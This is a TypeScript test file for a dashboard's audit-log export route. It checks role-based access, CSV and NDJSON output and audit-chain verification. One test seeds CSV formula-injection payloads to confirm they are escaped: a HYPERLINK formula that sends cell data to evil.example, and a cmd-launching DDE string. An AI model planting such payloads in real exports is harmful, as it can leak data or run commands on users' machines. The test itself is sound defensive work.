import { beforeEach, describe, expect, it, vi } from "vitest";
import { parseCsv, type ExportRow } from "@/lib/core/audit-export";
import { session } from "@/tests/session-mock";
import { auditEvents, seedWorkspace, testActor } from "@/tests/fixtures";
import { writeAudit } from "../audit";
import { getDb } from "../db";
import { searchAudit } from "./search-audit";

vi.mock("@/lib/server/auth/config", () => import("@/tests/session-mock"));
vi.mock("next/cache", () => ({ revalidatePath: () => {} }));

const { GET } = await import("@/app/(dashboard)/w/[workspace]/audit/export/route");
const { verifyAuditChainAction } = await import("@/app/(dashboard)/w/[workspace]/audit/actions");

function download(slug: string, query: string) {
  return GET(new Request(`http://localhost/w/${slug}/audit/export?${query}`), {
    params: Promise.resolve({ workspace: slug }),
  });
}

describe("the dashboard's export route checks the role on the server", () => {
  beforeEach(() => {
    session.userId = null;
  });

  it("streams CSV and NDJSON of a search to an auditor, exactly what the search shows, and audits it", async () => {
    const { workspace, members } = await seedWorkspace(["admin", "auditor"]);
    for (const reason of ["a, b", 'quote "q"', "line\nbreak"]) {
      await writeAudit(getDb(), { workspaceId: workspace.id, actor: testActor, action: "test.route", reason });
    }
    session.userId = members.auditor!.id;
    const csv = await download(workspace.slug, "format=csv&action=test.route");
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/text\/csv/);
    expect(csv.headers.get("content-disposition")).toMatch(/attachment; filename="audit-.*\.csv"/);
    const [header, ...rows] = parseCsv(await csv.text());
    const search = await searchAudit(workspace.id, { action: "test.route" });
    expect(rows.map((r) => r[header!.indexOf("reason")])).toEqual(search.items.map((e) => e.reason));

    const ndjson = await download(workspace.slug, "action=test.route");
    expect(ndjson.headers.get("content-type")).toMatch(/application\/x-ndjson/);
    const lines = (await ndjson.text())
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as ExportRow);
    expect(lines.map((l) => l.id)).toEqual(search.items.map((e) => e.id));

    const exported = await auditEvents({ workspaceId: workspace.id, action: "audit.exported" });
    expect(exported).toHaveLength(2);
    expect(exported[0]).toMatchObject({ actorId: members.auditor!.id, outcome: "success" });
  });

  it("neutralises formula cells (=, +, -, @, tab, CR) an agent or a person put in the trail — security #17.9", async () => {
    const { workspace, members } = await seedWorkspace(["auditor"]);
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"];
    for (const reason of attacks) {
      await writeAudit(getDb(), {
        workspaceId: workspace.id,
        actor: { type: "identity", id: null, name: "@evil-bot" },
        action: "test.formula",
        target: "=1+1",
        reason,
      });
    }
    session.userId = members.auditor!.id;
    const text = await (await download(workspace.slug, "format=csv&action=test.formula")).text();
    // As a spreadsheet reads it: no cell starts with a formula character.
    const cells = text
      .split("\r\n")
      .slice(1)
      .filter(Boolean)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, "")));
    for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    // And the export still says exactly what was stored.
    const [header, ...rows] = parseCsv(text);
    expect(rows.map((r) => r[header!.indexOf("reason")]).sort()).toEqual([...attacks].sort());
    expect(new Set(rows.map((r) => r[header!.indexOf("actorName")]))).toEqual(new Set(["@evil-bot"]));
  });

  it("refuses a viewer and an operator (403), audits the refusal, sends no data", async () => {
    const { workspace, members } = await seedWorkspace(["admin", "viewer", "operator"]);
    for (const role of ["viewer", "operator"] as const) {
      session.userId = members[role]!.id;
      const response = await download(workspace.slug, "format=csv");
      expect(response.status).toBe(403);
      expect(await response.text()).not.toMatch(/actorType/);
    }
    const denied = await auditEvents({ workspaceId: workspace.id, action: "audit.export" });
    expect(denied.map((e) => [e.outcome, e.actorId])).toEqual([
      ["denied", members.viewer!.id],
      ["denied", members.operator!.id],
    ]);
    expect(await auditEvents({ workspaceId: workspace.id, action: "audit.exported" })).toEqual([]);
  });

  it("lets auditors and admins verify the chain, and refuses (and audits) a viewer's or an operator's attempt", async () => {
    const { workspace, members } = await seedWorkspace(["admin", "auditor", "viewer", "operator"]);
    const verify = () => {
      const data = new FormData();
      data.set("workspace", workspace.slug);
      return verifyAuditChainAction(undefined, data);
    };
    for (const role of ["viewer", "operator"] as const) {
      session.userId = members[role]!.id;
      expect(await verify()).toMatchObject({ ok: false, message: "Your role does not allow this." });
    }
    expect((await auditEvents({ workspaceId: workspace.id, action: "audit.verify" })).map((e) => e.outcome)).toEqual([
      "denied",
      "denied",
    ]);
    for (const role of ["auditor", "admin"] as const) {
      session.userId = members[role]!.id;
      const result = await verify();
      expect(result.ok).toBe(true);
      expect(result.message).toMatch(/^Integrity verified: \d+ events, chain intact/);
    }
    expect(await auditEvents({ workspaceId: workspace.id, action: "audit.verified" })).toHaveLength(2);
  });

  it("answers 401 when signed out, 404 for another workspace, 400 for a bad format", async () => {
    const { workspace, members } = await seedWorkspace(["admin"]);
    const other = await seedWorkspace(["admin"]);
    expect((await download(workspace.slug, "format=csv")).status).toBe(401);
    session.userId = other.members.admin!.id;
    expect((await download(workspace.slug, "format=csv")).status).toBe(404);
    session.userId = members.admin!.id;
    expect((await download(workspace.slug, "format=xml")).status).toBe(400);
    expect((await download(workspace.slug, "format=csv")).status).toBe(200);
  });
});
